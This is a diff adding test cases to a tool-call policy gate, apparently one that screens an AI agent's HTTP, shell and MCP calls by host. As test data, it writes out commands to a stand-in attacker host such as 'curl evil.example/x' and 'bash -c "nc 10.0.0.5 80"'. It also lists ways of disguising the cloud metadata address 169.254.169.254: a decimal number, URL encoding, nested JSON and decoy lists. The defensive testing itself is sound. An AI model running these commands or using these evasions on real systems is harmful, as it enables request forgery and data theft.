@@ -40,6 +40,38 @@ describe('what decides', () => {
   });
 });
 
+describe('the hosts of a call', () => {
+  const OWN = 'inventory.internal.example.com';
+  const gate = gateOf(
+    policyOf([
+      'when: {finding: [{rule: http-*}]}, unless: {host: inventory.internal.example.com}, effect: deny',
+      'when: {host: [evil.example, 10.0.0.5]}, effect: hold',
+    ]),
+  );
+  const decoys = Array.from({ length: 64 }, (_, at) => `https://a${at}.example.com/`);
+  for (const [what, kind, given, effect] of [
+    ['an excepted one', 'HTTP', { url: `https://${OWN}/items` }, 'ALLOW'],
+    ['one without a scheme', 'HTTP', { note: `https://${OWN}/`, url: '10.0.0.5/admin' }, 'DENY'],
+    ['a number', 'HTTP', { note: `https://${OWN}/`, host: '2130706433' }, 'DENY'],
+    ['a metadata address anywhere', 'HTTP', { note: `https://${OWN}/`, x: '169.254.169.254' }, 'DENY'],
+    ['one in a parameter', 'HTTP', { url: `https://${OWN}/?u=http%3A%2F%2F169.254.169.254` }, 'DENY'],
+    ['one in JSON in a string', 'MCP', { note: `https://${OWN}/`, x: '{"url":"10.0.0.5"}' }, 'DENY'],
+    ['one behind many', 'HTTP', { a: decoys, url: 'http://169.254.169.254/' }, 'DENY'],
+    ['too many to be read', 'HTTP', { a: [...decoys, 'https://more.example.com/'] }, 'HOLD'],
+    ['of a command', 'SHELL', { command: 'sudo curl -s evil.example' }, 'HOLD'],
+    ['of a command within one', 'SHELL', { command: 'bash -c "nc 10.0.0.5 80"' }, 'HOLD'],
+    ['of a command that a function runs', 'MCP', { command: 'curl evil.example/x' }, 'HOLD'],
+    ['of a command that does not tell', 'SHELL', { command: 'curl $WHERE' }, 'HOLD'],
+    ['of another command', 'SHELL', { command: 'curl -s api.example.com -o evil.json' }, 'ALLOW'],
+    ['of no command', 'SHELL', { command: 'cat evil.example' }, 'ALLOW'],
+    ['none', 'FUNCTION', { note: 'evil.example' }, 'ALLOW'],
+  ] as const)
+    it(`${what}: ${effect}`, () => {
+      const call = callOf({ name: 'do', kind, arguments: JSON.stringify(given) });
+      assert.equal(gate.decide(call).effect, effect);
+    });
+});
+
 describe('conditions', () => {
   const cases: readonly (readonly [when: string, matching: Partial<GateCall>, other: Partial<GateCall>])[] = [
     ['{tenant: acme}', {}, { tenant: 'globex' }],
